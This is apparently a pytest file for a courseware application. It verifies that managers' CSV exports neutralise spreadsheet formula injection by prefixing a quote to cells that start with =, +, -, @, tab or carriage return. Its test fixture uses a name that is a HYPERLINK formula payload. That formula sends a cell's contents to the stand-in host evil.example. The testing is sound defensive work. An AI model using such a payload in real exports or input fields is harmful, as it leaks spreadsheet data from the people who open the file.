"""Text people chose reaches the managers' CSV exports as text: a cell a spreadsheet would run
as a formula starts with a ``'``, in every export."""

from __future__ import annotations

import csv
import io

import pytest

from courseware.auth.services import invite
from courseware.core.exports import neutralised
from courseware.db import utcnow
from courseware.progress import rules
from tests.conftest import TEST_PASSWORD, post
from tests.core.web import new_client
from tests.manage.conftest import DAY, add_event, enroll_at, lessons_of

HYPERLINK = '=HYPERLINK("http://evil.example/"&B1,"Open report")'


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def invitee(app, org, db):
    """Someone invited into the manager's team who chose a formula as their name."""
    _, token = invite("invitee@example.org", ["learner"], org.north, org.admin)
    db.session.commit()
    browser = new_client(app)
    response = post(
        browser, f"/invite/{token}", {"name": HYPERLINK, "password": TEST_PASSWORD, "confirm": TEST_PASSWORD}
    )
    assert response.status_code == 302
    from courseware.auth.services import find_user_by_email

    person = find_user_by_email("invitee@example.org")
    assert person.name == HYPERLINK  # what they chose is kept as they typed it
    now = utcnow()
    enroll_at(person, org.course, now - 3 * DAY)
    add_event(person, rules.VIEWED, now - DAY, lesson=lessons_of(org.course)[0])
    db.session.commit()
    return person


def test_a_name_that_is_a_formula_is_plain_text_in_the_people_csv(client, login, org, invitee):
    login(org.manager)

    rows = rows_of(client.get("/manage/people.csv"))

    assert [row["name"] for row in rows if row["email"] == "invitee@example.org"] == ["'" + HYPERLINK]


def test_a_name_that_is_a_formula_is_plain_text_in_the_events_csv(client, login, org, invitee):
    login(org.manager)
    today = utcnow().date()

    rows = rows_of(client.get(f"/manage/events.csv?start={today - 5 * DAY}&end={today}"))

    names = {row["name"] for row in rows if row["email"] == "invitee@example.org"}
    assert names == {"'" + HYPERLINK}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_a_spreadsheet_would_run_is_neutralised(start):
    assert neutralised(start + "1+1") == "'" + start + "1+1"


def test_plain_cells_and_numbers_are_left_as_they_are():
    assert [neutralised(value) for value in ("Ada", "ada@example.org", "a=b", "", -3, 1.5, None)] == [
        "Ada",
        "ada@example.org",
        "a=b",
        "",
        -3,
        1.5,
        None,
    ]
